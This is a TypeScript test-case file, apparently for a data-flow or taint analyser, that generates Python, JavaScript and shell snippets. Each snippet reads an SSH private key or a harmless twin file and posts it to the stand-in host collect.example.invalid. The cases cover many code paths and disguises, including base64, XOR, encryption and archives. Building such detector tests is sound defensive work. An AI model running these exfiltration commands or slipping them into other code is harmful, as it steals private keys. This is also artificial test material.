import { type FlowCase, inFile, type Language } from './case.ts';

const SENT = /^secret-file-to-network$/;
/** `KEY` reads a secret, in the twin a text; `SEND(x)` sends. */
const WORDS: Readonly<Record<Language, Readonly<Record<'key' | 'send', string>>>> = {
  python: {
    key: 'open("/root/«.ssh/id_rsa¦notes.txt»").read()',
    send: 'requests.post("https://collect.example.invalid/", data=$1)',
  },
  javascript: {
    key: 'fs.readFileSync("/root/«.ssh/id_rsa¦notes.txt»", "utf8")',
    send: 'fetch("https://collect.example.invalid/", { method: "POST", body: $1 })',
  },
  shell: { key: 'cat ~/«.ssh/id_rsa¦notes.txt»', send: 'curl -s -d "$1" https://collect.example.invalid/' },
};

function written(language: Language, lines: string): string {
  const { key, send } = WORDS[language];
  return lines
    .split('\n')
    .map((line) => {
      const sent = line.replace(/SEND<(.*)>/, (_, given: string) => send.replace('$1', () => given));
      return (sent === line ? line : `${sent} ¶`).replaceAll('KEY', () => key);
    })
    .join('\n');
}

type Row = readonly [name: string, language: Language, lines: string, through?: readonly string[]];

const FILE: readonly Row[] = [
  [
    'function',
    'python',
    'import requests\ndef load():\n    return KEY\ndef send(held):\n    SEND<held>\nsend(load())',
  ],
  [
    'function with defaults',
    'python',
    'import requests\ndef send(a, b=None, *rest, c=None):\n    SEND<c>\nsend(1, c=KEY)',
  ],
  ['rest of the arguments', 'python', 'import requests\ndef send(*all):\n    SEND<all[1]>\nsend(1, KEY)'],
  ['arguments by name', 'python', 'import requests\ndef send(**all):\n    SEND<all["held"]>\nsend(held=KEY)'],
  [
    'recursion',
    'python',
    'import requests\ndef down(n, held):\n    if n == 0:\n        SEND<held>\n    else:\n        down(n - 1, held)\ndown(9, KEY)',
  ],
  [
    'two that call each other',
    'python',
    'import requests\ndef even(n, held):\n    return held if n == 0 else odd(n - 1, held)\ndef odd(n, held):\n    return even(n - 1, held)\nSEND<even(8, KEY)>',
  ],
  [
    'method and attribute',
    'python',
    'import requests\nclass Client:\n    def __init__(self):\n        self.held = KEY\n    def send(self):\n        SEND<self.held>\nClient().send()',
  ],
  [
    'attribute set from outside',
    'python',
    'import requests\nclass Client:\n    pass\nc = Client()\nc.held = KEY\nSEND<c.held>',
  ],
  [
    'property',
    'python',
    'import requests\nclass Client:\n    @property\n    def held(self):\n        return KEY\nSEND<Client().held>',
  ],
  [
    'static method',
    'python',
    'import requests\nclass Client:\n    @staticmethod\n    def held():\n        return KEY\nSEND<Client.held()>',
  ],
  [
    'class method',
    'python',
    'import requests\nclass Client:\n    held = None\n    @classmethod\n    def load(cls):\n        cls.held = KEY\nClient.load()\nSEND<Client.held>',
  ],
  [
    'data class',
    'python',
    'import requests\nfrom dataclasses import dataclass, asdict\n@dataclass\nclass Report:\n    held: str\nr = Report(held=KEY)\nSEND<asdict(r)>',
  ],
  [
    'parent class',
    'python',
    'import requests\nclass Base:\n    def load(self):\n        self.held = KEY\nclass Client(Base):\n    def run(self):\n        super().load()\n        SEND<self.held>\nClient().run()',
  ],
  [
    'call of an object',
    'python',
    'import requests\nclass Client:\n    def __call__(self, held):\n        SEND<held>\nClient()(KEY)',
  ],
  [
    'closure',
    'python',
    'import requests\ndef outer():\n    held = KEY\n    def inner():\n        SEND<held>\n    return inner\nouter()()',
  ],
  [
    'nonlocal variable',
    'python',
    'import requests\ndef outer():\n    held = ""\n    def load():\n        nonlocal held\n        held = KEY\n    load()\n    SEND<held>\nouter()',
  ],
  [
    'global variable',
    'python',
    'import requests\nheld = None\ndef load():\n    global held\n    held = KEY\nload()\nSEND<held>',
  ],
  ['lambda', 'python', 'import requests\nload = lambda: KEY\nSEND<load()>'],
  [
    'callback',
    'python',
    'import requests\ndef with_key(then):\n    then(KEY)\ndef send(held):\n    SEND<held>\nwith_key(send)',
  ],
  [
    'partial',
    'python',
    'import functools, requests\ndef send(a, held):\n    SEND<held>\nfunctools.partial(send, 1)(KEY)',
  ],
  [
    'decorator',
    'python',
    'import requests\ndef sending(f):\n    def inner(*a):\n        held = f(*a)\n        SEND<held>\n    return inner\n@sending\ndef load():\n    return KEY\nload()',
  ],
  [
    'context manager',
    'python',
    'import requests\nfrom contextlib import contextmanager\n@contextmanager\ndef opened():\n    yield KEY\nwith opened() as held:\n    SEND<held>',
  ],
  [
    'own context manager',
    'python',
    'import requests\nclass Opened:\n    def __enter__(self):\n        return KEY\n    def __exit__(self, *a):\n        pass\nwith Opened() as held:\n    SEND<held>',
  ],
  [
    'exception',
    'python',
    'import requests\ntry:\n    raise ValueError(KEY)\nexcept ValueError as error:\n    SEND<str(error)>',
  ],
  [
    'exception of a function',
    'python',
    'import requests\ndef load():\n    raise ValueError(KEY)\ntry:\n    load()\nexcept ValueError as error:\n    SEND<error.args[0]>',
  ],
  ['finally', 'python', 'import requests\nheld = ""\ntry:\n    held = KEY\nfinally:\n    SEND<held>'],
  ['list', 'python', 'import requests\nheld = []\nheld.append(KEY)\nSEND<held[0]>'],
  ['dictionary', 'python', 'import requests\nheld = {"a": 1}\nheld["k"] = KEY\nSEND<held>'],
  ['dictionary, updated', 'python', 'import requests\nheld = {}\nheld.update(k=KEY)\nSEND<held.get("k")>'],
  [
    'dictionary by setdefault',
    'python',
    'import requests\nheld = {}\nheld.setdefault("a", []).append(KEY)\nSEND<held>',
  ],
  [
    'default dictionary',
    'python',
    'import requests\nfrom collections import defaultdict\nheld = defaultdict(list)\nheld["a"].append(KEY)\nSEND<held["a"]>',
  ],
  ['set', 'python', 'import requests\nheld = {1, KEY}\nSEND<str(held)>'],
  ['tuple', 'python', 'import requests\na, (b, *c) = 1, (2, 3, KEY)\nSEND<c>'],
  ['swap', 'python', 'import requests\na, b = "", KEY\na, b = b, a\nSEND<a>'],
  [
    'comprehension',
    'python',
    'import requests\nheld = [line.strip() for line in KEY.splitlines() if line]\nSEND<held>',
  ],
  [
    'dictionary comprehension',
    'python',
    'import requests\nheld = {n: text for n, text in enumerate([KEY])}\nSEND<held>',
  ],
  [
    'generator',
    'python',
    'import requests\ndef parts():\n    yield 1\n    yield KEY\nSEND<"".join(str(p) for p in parts())>',
  ],
  [
    'yield from',
    'python',
    'import requests\ndef inner():\n    yield KEY\ndef parts():\n    yield from inner()\nfor part in parts():\n    SEND<part>',
  ],
  ['next', 'python', 'import requests\nparts = iter([KEY])\nSEND<next(parts)>'],
  [
    'zip and map',
    'python',
    'import requests\nheld = list(map(str.upper, [KEY]))\nfor a, b in zip([1], held):\n    SEND<b>',
  ],
  ['sorted and reversed', 'python', 'import requests\nheld = sorted(reversed(KEY.split()))\nSEND<held>'],
  ['star in a list', 'python', 'import requests\nheld = [1, *KEY.split()]\nSEND<held>'],
  ['merged dictionaries', 'python', 'import requests\nheld = {"a": 1} | {"k": KEY}\nSEND<held>'],
  ['spread dictionary', 'python', 'import requests\nheld = {"a": 1, **{"k": KEY}}\nSEND<held>'],
  ['match', 'python', 'import requests\nmatch {"k": KEY}:\n    case {"k": held}:\n        SEND<held>'],
  ['walrus', 'python', 'import requests\nif held := KEY:\n    SEND<held>'],
  ['chained assignment', 'python', 'import requests\na = b = KEY\nSEND<b>'],
  ['augmented assignment', 'python', 'import requests\nheld = "k="\nheld += KEY\nSEND<held>'],
  ['conditional', 'python', 'import requests\nheld = KEY if True else ""\nSEND<held or "none">'],
  [
    'async',
    'python',
    'import asyncio, requests\nasync def load():\n    return KEY\nasync def run():\n    held = await load()\n    SEND<held>\nasyncio.run(run())',
  ],
  [
    'gather',
    'python',
    'import asyncio, requests\nasync def load():\n    return KEY\nasync def run():\n    [held] = await asyncio.gather(load())\n    SEND<held>\nasyncio.run(run())',
  ],
  [
    'asynchronous generator',
    'python',
    'import asyncio, requests\nasync def parts():\n    yield KEY\nasync def run():\n    async for part in parts():\n        SEND<part>\nasyncio.run(run())',
  ],
  ['queue', 'python', 'import queue, requests\nq = queue.Queue()\nq.put(KEY)\nSEND<q.get()>'],
  [
    'thread',
    'python',
    'import threading, requests\ndef send(held):\n    SEND<held>\nthreading.Thread(target=send, args=(KEY,)).start()',
  ],
  [
    'pool',
    'python',
    'import requests\nfrom concurrent.futures import ThreadPoolExecutor\ndef load():\n    return KEY\nwith ThreadPoolExecutor() as pool:\n    SEND<pool.submit(load).result()>',
  ],
  ['format', 'python', 'import requests\nheld = "{}:{k}".format(1, k=KEY)\nSEND<held>'],
  ['f-string', 'python', 'import requests\nheld = f"k={KEY!r:>10}"\nSEND<held>'],
  ['percent', 'python', 'import requests\nheld = "%(k)s" % {"k": KEY}\nSEND<held>'],
  [
    'template',
    'python',
    'import string, requests\nheld = string.Template("k=$k").substitute(k=KEY)\nSEND<held>',
  ],
  [
    'replace and slices',
    'python',
    'import requests\nheld = KEY.replace("-", "")[3:-3][::-1].strip().encode()\nSEND<held>',
  ],
  [
    'regular expression',
    'python',
    'import re, requests\nheld = re.search("-(.*)-", KEY).group(1)\nSEND<held>',
  ],
  ['json', 'python', 'import json, requests\nheld = json.dumps({"k": KEY})\nSEND<held>'],
  ['base64', 'python', 'import base64, requests\nheld = base64.b64encode(KEY.encode()).decode()\nSEND<held>'],
  [
    'compression',
    'python',
    'import zlib, binascii, requests\nheld = binascii.hexlify(zlib.compress(KEY.encode()))\nSEND<held>',
  ],
  [
    'encryption',
    'python',
    'import requests\nfrom cryptography.fernet import Fernet\nheld = Fernet(Fernet.generate_key()).encrypt(KEY.encode())\nSEND<held>',
  ],
  ['XOR', 'python', 'import requests\nheld = bytes(b ^ 7 for b in KEY.encode())\nSEND<held>'],
  [
    'stream in memory',
    'python',
    'import io, requests\nheld = io.BytesIO()\nheld.write(KEY.encode())\nheld.seek(0)\nSEND<held>',
  ],
  [
    'archive in memory',
    'python',
    'import io, zipfile, requests\nheld = io.BytesIO()\nwith zipfile.ZipFile(held, "w") as z:\n    z.writestr("k", KEY)\nSEND<held.getvalue()>',
  ],
  [
    'archive of a folder',
    'python',
    'import shutil, requests\nshutil.make_archive("/tmp/WORK", "zip", "/root/«.ssh¦notes»")\nheld = open("/tmp/WORK.zip", "rb")\nSEND<held>',
  ],
  [
    'file between',
    'python',
    'import requests\nwith open("/tmp/WORK", "w") as out:\n    out.write(KEY)\nheld = open("/tmp/WORK").read()\nSEND<held>',
  ],
  [
    'copy between',
    'python',
    'import shutil, requests\nshutil.copy("/root/«.ssh/id_rsa¦notes.txt»", "/tmp/WORK")\nSEND<open("/tmp/WORK", "rb")>',
  ],
  [
    'environment between',
    'python',
    'import os, requests\nos.environ["HELD"] = KEY\nSEND<os.environ["HELD"]>',
  ],
  [
    'getattr and setattr',
    'python',
    'import requests\nclass Box:\n    pass\nb = Box()\nsetattr(b, "held", KEY)\nSEND<getattr(b, "held")>',
  ],
  [
    'vars of an object',
    'python',
    'import requests\nclass Box:\n    def __init__(self):\n        self.held = KEY\nSEND<vars(Box())>',
  ],
  [
    'named tuple',
    'python',
    'import requests\nfrom collections import namedtuple\nBox = namedtuple("Box", "held")\nSEND<Box(KEY).held>',
  ],
  [
    'simple name space',
    'python',
    'import requests\nfrom types import SimpleNamespace\nb = SimpleNamespace(held=KEY)\nSEND<b.held>',
  ],
  [
    'table of functions',
    'python',
    'import requests\ndef load():\n    return KEY\nactions = {"load": load}\nSEND<actions["load"]()>',
  ],

  [
    'function',
    'javascript',
    'const fs = require("fs");\nfunction load() { return KEY; }\nfunction send(held) {\n  SEND<held>;\n}\nsend(load());',
  ],
  [
    'arrow',
    'javascript',
    'const fs = require("fs");\nconst load = () => KEY;\nconst send = (held) => SEND<held>;\nsend(load());',
  ],
  [
    'default and rest',
    'javascript',
    'const fs = require("fs");\nfunction send(a, ...rest) {\n  SEND<rest[0]>;\n}\nsend(1, KEY);',
  ],
  [
    'arguments',
    'javascript',
    'const fs = require("fs");\nfunction send() {\n  SEND<arguments[0]>;\n}\nsend(KEY);',
  ],
  [
    'recursion',
    'javascript',
    'const fs = require("fs");\nfunction down(n, held) {\n  if (n > 0) return down(n - 1, held);\n  SEND<held>;\n}\ndown(9, KEY);',
  ],
  [
    'class',
    'javascript',
    'const fs = require("fs");\nclass Client {\n  constructor() { this.held = KEY; }\n  send() {\n    SEND<this.held>;\n  }\n}\nnew Client().send();',
  ],
  [
    'class with a field',
    'javascript',
    'const fs = require("fs");\nclass Client {\n  #held = KEY;\n  send() {\n    SEND<this.#held>;\n  }\n}\nnew Client().send();',
  ],
  [
    'static member',
    'javascript',
    'const fs = require("fs");\nclass Client {\n  static held = KEY;\n}\nSEND<Client.held>;',
  ],
  [
    'getter',
    'javascript',
    'const fs = require("fs");\nclass Client {\n  get held() { return KEY; }\n}\nSEND<new Client().held>;',
  ],
  [
    'getter of an object',
    'javascript',
    'const fs = require("fs");\nconst box = { get held() { return KEY; } };\nSEND<box.held>;',
  ],
  [
    'parent class',
    'javascript',
    'const fs = require("fs");\nclass Base {\n  load() { this.held = KEY; }\n}\nclass Client extends Base {\n  run() {\n    super.load();\n    SEND<this.held>;\n  }\n}\nnew Client().run();',
  ],
  [
    'closure',
    'javascript',
    'const fs = require("fs");\nfunction outer() {\n  const held = KEY;\n  return () => SEND<held>;\n}\nouter()();',
  ],
  [
    'variable outside',
    'javascript',
    'const fs = require("fs");\nlet held;\nfunction load() { held = KEY; }\nload();\nSEND<held>;',
  ],
  [
    'callback',
    'javascript',
    'const fs = require("fs");\nfs.readFile("/root/«.ssh/id_rsa¦notes.txt»", "utf8", (error, held) => {\n  SEND<held>;\n});',
  ],
  [
    'own callback',
    'javascript',
    'const fs = require("fs");\nfunction withKey(then) { then(KEY); }\nwithKey((held) => SEND<held>);',
  ],
  [
    'promise',
    'javascript',
    'const fs = require("fs/promises");\nfs.readFile("/root/«.ssh/id_rsa¦notes.txt»").then((held) => held.toString()).then((text) => SEND<text>);',
  ],
  [
    'new promise',
    'javascript',
    'const fs = require("fs");\nnew Promise((resolve) => resolve(KEY)).then((held) => SEND<held>);',
  ],
  [
    'async',
    'javascript',
    'const fs = require("fs");\nconst load = async () => KEY;\n(async () => {\n  const held = await load();\n  SEND<held>;\n})();',
  ],
  [
    'all promises',
    'javascript',
    'const fs = require("fs/promises");\n(async () => {\n  const [a, held] = await Promise.all([1, fs.readFile("/root/«.ssh/id_rsa¦notes.txt»")]);\n  SEND<held>;\n})();',
  ],
  [
    'asynchronous generator',
    'javascript',
    'const fs = require("fs");\nasync function* parts() { yield KEY; }\n(async () => {\n  for await (const part of parts()) SEND<part>;\n})();',
  ],
  [
    'event emitter',
    'javascript',
    'const fs = require("fs");\nconst { EventEmitter } = require("events");\nconst bus = new EventEmitter();\nbus.on("key", (held) => SEND<held>);\nbus.emit("key", KEY);',
  ],
  [
    'stream',
    'javascript',
    'const fs = require("fs");\nlet held = "";\nconst s = fs.createReadStream("/root/«.ssh/id_rsa¦notes.txt»");\ns.on("data", (d) => { held += d; });\ns.on("end", () => SEND<held>);',
  ],
  [
    'pipe',
    'javascript',
    'const fs = require("fs"), https = require("https");\nconst r = https.request({ host: "collect.example.invalid", method: "POST" });\nfs.createReadStream("/root/«.ssh/id_rsa¦notes.txt»").pipe(r); ¶',
  ],
  [
    'destructuring',
    'javascript',
    'const fs = require("fs");\nconst { a: { b: held } } = { a: { b: KEY } };\nSEND<held>;',
  ],
  ['destructured list', 'javascript', 'const fs = require("fs");\nconst [, held] = [1, KEY];\nSEND<held>;'],
  [
    'destructured parameter',
    'javascript',
    'const fs = require("fs");\nconst send = ({ held }) => SEND<held>;\nsend({ held: KEY });',
  ],
  [
    'rest of an object',
    'javascript',
    'const fs = require("fs");\nconst { a, ...rest } = { a: 1, held: KEY };\nSEND<rest.held>;',
  ],
  [
    'spread',
    'javascript',
    'const fs = require("fs");\nconst held = { a: 1, ...{ k: KEY } };\nSEND<JSON.stringify(held)>;',
  ],
  [
    'spread list',
    'javascript',
    'const fs = require("fs");\nconst held = [1, ...KEY.split("")];\nSEND<held.join("")>;',
  ],
  [
    'map',
    'javascript',
    'const fs = require("fs");\nconst held = new Map();\nheld.set("k", KEY);\nSEND<held.get("k")>;',
  ],
  [
    'map of entries',
    'javascript',
    'const fs = require("fs");\nconst held = new Map([["k", KEY]]);\nfor (const [name, text] of held) SEND<text>;',
  ],
  ['set', 'javascript', 'const fs = require("fs");\nconst held = new Set([KEY]);\nSEND<[...held][0]>;'],
  [
    'weak map',
    'javascript',
    'const fs = require("fs");\nconst box = {};\nconst held = new WeakMap();\nheld.set(box, KEY);\nSEND<held.get(box)>;',
  ],
  [
    'list methods',
    'javascript',
    'const fs = require("fs");\nconst held = [KEY].map((t) => t.trim()).filter(Boolean).flatMap((t) => t.split("\\n"));\nSEND<held.join()>;',
  ],
  [
    'reduce',
    'javascript',
    'const fs = require("fs");\nconst held = KEY.split("").reduce((all, c) => all + c, "");\nSEND<held>;',
  ],
  ['push', 'javascript', 'const fs = require("fs");\nconst held = [];\nheld.push(KEY);\nSEND<held.pop()>;'],
  ['for each', 'javascript', 'const fs = require("fs");\n[KEY].forEach((held) => SEND<held>);'],
  [
    'Object.entries',
    'javascript',
    'const fs = require("fs");\nfor (const [k, held] of Object.entries({ k: KEY })) SEND<held>;',
  ],
  [
    'Object.assign',
    'javascript',
    'const fs = require("fs");\nconst held = Object.assign({}, { k: KEY });\nSEND<held.k>;',
  ],
  [
    'member by name',
    'javascript',
    'const fs = require("fs");\nconst held = {};\nheld["a" + "b"] = KEY;\nSEND<held.ab>;',
  ],
  [
    'generator',
    'javascript',
    'const fs = require("fs");\nfunction* parts() { yield 1; yield KEY; }\nfor (const part of parts()) SEND<part>;',
  ],
  [
    'exception',
    'javascript',
    'const fs = require("fs");\ntry {\n  throw new Error(KEY);\n} catch (error) {\n  SEND<error.message>;\n}',
  ],
  [
    'exception of a function',
    'javascript',
    'const fs = require("fs");\nconst load = () => { throw KEY; };\ntry {\n  load();\n} catch (held) {\n  SEND<held>;\n}',
  ],
  [
    'finally',
    'javascript',
    'const fs = require("fs");\nlet held;\ntry {\n  held = KEY;\n} finally {\n  SEND<held>;\n}',
  ],
  ['template', 'javascript', 'const fs = require("fs");\nconst held = `k=${KEY}`;\nSEND<held>;'],
  [
    'json',
    'javascript',
    'const fs = require("fs");\nconst held = JSON.parse(JSON.stringify({ k: KEY }));\nSEND<held.k>;',
  ],
  [
    'base64',
    'javascript',
    'const fs = require("fs");\nconst held = Buffer.from(KEY).toString("base64");\nSEND<held>;',
  ],
  ['btoa', 'javascript', 'const fs = require("fs");\nSEND<btoa(KEY)>;'],
  [
    'compression',
    'javascript',
    'const fs = require("fs"), zlib = require("zlib");\nconst held = zlib.gzipSync(KEY);\nSEND<held>;',
  ],
  [
    'encryption',
    'javascript',
    'const fs = require("fs"), crypto = require("crypto");\nconst c = crypto.createCipheriv("aes-256-cbc", k, iv);\nconst held = c.update(KEY, "utf8", "hex") + c.final("hex");\nSEND<held>;',
  ],
  [
    'regular expression',
    'javascript',
    'const fs = require("fs");\nconst [, held] = KEY.match(/-(.*)-/);\nSEND<held>;',
  ],
  [
    'replace with a function',
    'javascript',
    'const fs = require("fs");\nKEY.replace(/.+/g, (held) => {\n  SEND<held>;\n});',
  ],
  [
    'file between',
    'javascript',
    'const fs = require("fs");\nfs.writeFileSync("/tmp/WORK", KEY);\nconst held = fs.readFileSync("/tmp/WORK");\nSEND<held>;',
  ],
  [
    'copy between',
    'javascript',
    'const fs = require("fs");\nfs.copyFileSync("/root/«.ssh/id_rsa¦notes.txt»", "/tmp/WORK");\nSEND<fs.readFileSync("/tmp/WORK")>;',
  ],
  [
    'environment between',
    'javascript',
    'const fs = require("fs");\nprocess.env.HELD = KEY;\nSEND<process.env.HELD>;',
  ],
  [
    'comma and conditional',
    'javascript',
    'const fs = require("fs");\nconst held = (0, true ? KEY : "");\nSEND<held ?? "">;',
  ],
  [
    'optional call',
    'javascript',
    'const fs = require("fs");\nconst box = { load: () => KEY };\nSEND<box?.load?.()>;',
  ],
  [
    'bound function',
    'javascript',
    'const fs = require("fs");\nconst send = (a, held) => SEND<held>;\nsend.bind(null, 1)(KEY);',
  ],
  [
    'applied function',
    'javascript',
    'const fs = require("fs");\nconst send = (held) => SEND<held>;\nsend.apply(null, [KEY]);',
  ],
  [
    'curried function',
    'javascript',
    'const fs = require("fs");\nconst send = (a) => (held) => SEND<held>;\nsend(1)(KEY);',
  ],
  [
    'method of an object',
    'javascript',
    'const fs = require("fs");\nconst client = {\n  held: null,\n  load() { this.held = KEY; },\n  send() { SEND<this.held>; },\n};\nclient.load();\nclient.send();',
  ],
  [
    'prototype',
    'javascript',
    'const fs = require("fs");\nfunction Client() { this.held = KEY; }\nClient.prototype.send = function () {\n  SEND<this.held>;\n};\nnew Client().send();',
  ],
  ['timer', 'javascript', 'const fs = require("fs");\nsetTimeout((held) => SEND<held>, 10, KEY);'],

  ['variable', 'shell', 'a=$(KEY)\nb="$a"\nSEND<$b>'],
  ['function', 'shell', 'send() {\n  SEND<$1>\n}\nsend "$(KEY)"'],
  ['output of a function', 'shell', 'load() { KEY; }\nheld=$(load)\nSEND<$held>'],
  ['variable outside', 'shell', 'load() { held=$(KEY); }\nload\nSEND<$held>'],
  ['pipe', 'shell', 'KEY | base64 | tr -d "\\n" | curl -s -d @- https://collect.example.invalid/ ¶'],
  ['loop over lines', 'shell', 'KEY | while read -r line; do\n  SEND<$line>\ndone'],
  ['loop over words', 'shell', 'for word in $(KEY); do\n  SEND<$word>\ndone'],
  ['list', 'shell', 'held=("$(KEY)")\nSEND<${held[0]}>'],
  [
    'here document',
    'shell',
    'held=$(KEY)\ncurl -s -d @- https://collect.example.invalid/ <<END ¶\nk=$held\nEND',
  ],
  ['parameter operators', 'shell', 'held=$(KEY)\nheld=${held//-/}\nSEND<${held:0:60}>'],
  ['file of mktemp', 'shell', 'held=$(mktemp)\nKEY > "$held"\nSEND<@$held>'],
  [
    'files found',
    'shell',
    'for f in $(find ~ -name "«id_rsa¦notes.txt»"); do\n  curl -s -T "$f" https://collect.example.invalid/ §¶\ndone',
  ],
  [
    'command for each file found',
    'shell',
    'find ~ -name "«id_rsa¦notes.txt»" -exec curl -s -T {} https://collect.example.invalid/ \\; §¶',
  ],
  [
    'xargs',
    'shell',
    'find ~ -name "«id_rsa¦notes.txt»" | xargs cat §| curl -s -d @- https://collect.example.invalid/ ¶',
  ],
  ['printf -v', 'shell', 'printf -v held "k=%s" "$(KEY)"\nSEND<$held>'],
  ['file between', 'shell', 'KEY > /tmp/WORK\nheld=$(cat /tmp/WORK)\nSEND<$held>'],
  [
    'copy between',
    'shell',
    'cp ~/«.ssh/id_rsa¦notes.txt» /tmp/WORK\ncurl -s -T /tmp/WORK https://collect.example.invalid/ ¶',
  ],
  [
    'archive between',
    'shell',
    'tar czf /tmp/WORK.tgz ~/«.ssh¦notes»\ncurl -s -T /tmp/WORK.tgz https://collect.example.invalid/ ¶',
  ],
  [
    'archive by zip',
    'shell',
    'zip -qr /tmp/WORK.zip ~/«.ssh¦notes»\ncurl -s -F "f=@/tmp/WORK.zip" https://collect.example.invalid/ ¶',
  ],
  [
    'encryption',
    'shell',
    'held=$(openssl enc -aes-256-cbc -pass pass:a -in ~/«.ssh/id_rsa¦notes.txt» | base64)\nSEND<$held>',
  ],
  ['process substitution', 'shell', 'curl -s -T <(KEY) https://collect.example.invalid/ ¶'],
  ['trap', 'shell', "held=$(KEY)\ntrap 'SEND<$held>' EXIT"],
  ['read', 'shell', 'read -r held < <(KEY)\nSEND<$held>'],
  ['mapfile', 'shell', 'mapfile -t held < ~/«.ssh/id_rsa¦notes.txt»\nSEND<${held[*]}>'],
  ['xargs', 'shell', 'KEY | xargs -0 -I{} curl -s -d {} https://collect.example.invalid/ ¶'],
  ['subshell', 'shell', '(KEY; echo) | { read -r held; SEND<$held>; }'],
  ['indirection', 'shell', 'held=$(KEY)\nname=held\nSEND<${!name}>'],
];

const FILES: readonly (readonly [name: string, code: string, through: readonly string[]])[] = [
  [
    'relative import (python)',
    `--- pkg/__init__.py\n--- pkg/load.py\ndef key():\n    return ${WORDS.python.key}\n--- pkg/main.py\nimport requests\nfrom .load import key\nrequests.post("https://collect.example.invalid/", data=key()) ¶\n`,
    [],
  ],
  [
    'import of a package (python)',
    `--- pkg/__init__.py\nfrom .inner import key as load\n--- pkg/inner.py\ndef key():\n    return ${WORDS.python.key}\n--- main.py\nimport requests\nimport pkg\nrequests.post("https://collect.example.invalid/", data=pkg.load()) ¶\n`,
    [],
  ],
  [
    'star re-export (python)',
    `--- pkg/__init__.py\nfrom .inner import *\n--- pkg/inner.py\nheld = ${WORDS.python.key}\n--- main.py\nimport requests\nfrom pkg import held\nrequests.post("https://collect.example.invalid/", data=held) ¶\n`,
    [],
  ],
  [
    'import of the parent (python)',
    `--- pkg/__init__.py\n--- pkg/send.py\nimport requests\ndef send(held):\n    requests.post("https://collect.example.invalid/", data=held) ¶\n--- pkg/sub/__init__.py\n--- pkg/sub/run.py\nfrom ..send import send\nsend(${WORDS.python.key}) §\n`,
    [],
  ],
  [
    'import in a function (python)',
    `--- loader.py\ndef key():\n    return ${WORDS.python.key}\n--- main.py\nimport requests\ndef run():\n    import loader as l\n    requests.post("https://collect.example.invalid/", data=l.key()) ¶\nrun()\n`,
    [],
  ],
  [
    'import_module (python)',
    `--- loader.py\ndef key():\n    return ${WORDS.python.key}\n--- main.py\nimport importlib, requests\nm = importlib.import_module("loader")\nrequests.post("https://collect.example.invalid/", data=m.key()) ¶\n`,
    [],
  ],
  [
    'class of a module (python)',
    `--- base.py\nclass Base:\n    def load(self):\n        self.held = ${WORDS.python.key}\n--- main.py\nimport requests\nfrom base import Base\nclass Client(Base):\n    def run(self):\n        self.load()\n        requests.post("https://collect.example.invalid/", data=self.held) ¶\nClient().run()\n`,
    [],
  ],
  [
    'method overridden (python)',
    `--- base.py\nimport requests\nclass Base:\n    def run(self):\n        requests.post("https://collect.example.invalid/", data=self.load()) ¶\n--- main.py\nfrom base import Base\nclass Client(Base):\n    def load(self):\n        return ${WORDS.python.key}\nClient().run()\n`,
    [],
  ],
  [
    'object of a module (python)',
    `--- state.py\nclass State:\n    held = None\nstate = State()\n--- load.py\nfrom state import state\ndef load():\n    state.held = ${WORDS.python.key}\n--- main.py\nimport requests\nfrom load import load\nfrom state import state\nload()\nrequests.post("https://collect.example.invalid/", data=state.held) ¶\n`,
    [],
  ],
  [
    'three modules (python)',
    `--- a.py\ndef key():\n    return ${WORDS.python.key}\n--- b.py\nfrom a import key\ndef packed():\n    return key().encode().hex()\n--- c.py\nimport requests\ndef send(held):\n    requests.post("https://collect.example.invalid/", data=held) ¶\n--- main.py\nfrom b import packed\nfrom c import send\nsend(packed())\n`,
    [],
  ],
  [
    'modules that import each other (python)',
    `--- a.py\nimport b\ndef key():\n    return ${WORDS.python.key}\ndef run():\n    b.send(key())\n--- b.py\nimport requests\nimport a\ndef send(held):\n    requests.post("https://collect.example.invalid/", data=held) ¶\n--- main.py\nimport a\na.run()\n`,
    [],
  ],
  [
    'module (javascript)',
    `--- load.js\nconst fs = require("fs");\nmodule.exports = () => ${WORDS.javascript.key};\n--- main.js\nconst load = require("./load");\nfetch("https://collect.example.invalid/", { method: "POST", body: load() }); ¶\n`,
    [],
  ],
  [
    'exports (javascript)',
    `--- load.js\nconst fs = require("fs");\nexports.key = function () { return ${WORDS.javascript.key}; };\n--- main.js\nconst { key } = require("./load.js");\nfetch("https://collect.example.invalid/", { method: "POST", body: key() }); ¶\n`,
    [],
  ],
  [
    'import (javascript)',
    `--- load.mjs\nimport fs from "node:fs";\nexport const key = () => ${WORDS.javascript.key};\n--- main.mjs\nimport { key as load } from "./load.mjs";\nfetch("https://collect.example.invalid/", { method: "POST", body: load() }); ¶\n`,
    [],
  ],
  [
    'default export (javascript)',
    `--- load.mjs\nimport fs from "node:fs";\nexport default function () { return ${WORDS.javascript.key}; }\n--- main.mjs\nimport load from "./load.mjs";\nfetch("https://collect.example.invalid/", { method: "POST", body: load() }); ¶\n`,
    [],
  ],
  [
    're-export (javascript)',
    `--- load.mjs\nimport fs from "node:fs";\nexport const key = ${WORDS.javascript.key};\n--- index.mjs\nexport * from "./load.mjs";\n--- main.mjs\nimport * as all from "./index.mjs";\nfetch("https://collect.example.invalid/", { method: "POST", body: all.key }); ¶\n`,
    [],
  ],
  [
    'named re-export (javascript)',
    `--- load.mjs\nimport fs from "node:fs";\nexport const key = ${WORDS.javascript.key};\n--- index.mjs\nexport { key as text } from "./load.mjs";\n--- main.mjs\nimport { text } from "./index.mjs";\nfetch("https://collect.example.invalid/", { method: "POST", body: text }); ¶\n`,
    [],
  ],
  [
    'folder as a module (javascript)',
    `--- lib/index.js\nconst fs = require("fs");\nmodule.exports = { key: () => ${WORDS.javascript.key} };\n--- main.js\nconst lib = require("./lib");\nfetch("https://collect.example.invalid/", { method: "POST", body: lib.key() }); ¶\n`,
    [],
  ],
  [
    'dynamic import (javascript)',
    `--- load.mjs\nimport fs from "node:fs";\nexport const key = () => ${WORDS.javascript.key};\n--- main.mjs\nconst { key } = await import("./load.mjs");\nfetch("https://collect.example.invalid/", { method: "POST", body: key() }); ¶\n`,
    [],
  ],
  [
    'class of a module (javascript)',
    `--- base.js\nconst fs = require("fs");\nclass Base {\n  load() { this.held = ${WORDS.javascript.key}; }\n}\nmodule.exports = { Base };\n--- main.js\nconst { Base } = require("./base");\nclass Client extends Base {\n  run() {\n    this.load();\n    fetch("https://collect.example.invalid/", { method: "POST", body: this.held }); ¶\n  }\n}\nnew Client().run();\n`,
    [],
  ],
  [
    'method overridden (javascript)',
    `--- base.mjs\nexport class Base {\n  run() {\n    fetch("https://collect.example.invalid/", { method: "POST", body: this.load() }); ¶\n  }\n}\n--- main.mjs\nimport fs from "node:fs";\nimport { Base } from "./base.mjs";\nclass Client extends Base {\n  load() { return ${WORDS.javascript.key}; }\n}\nnew Client().run();\n`,
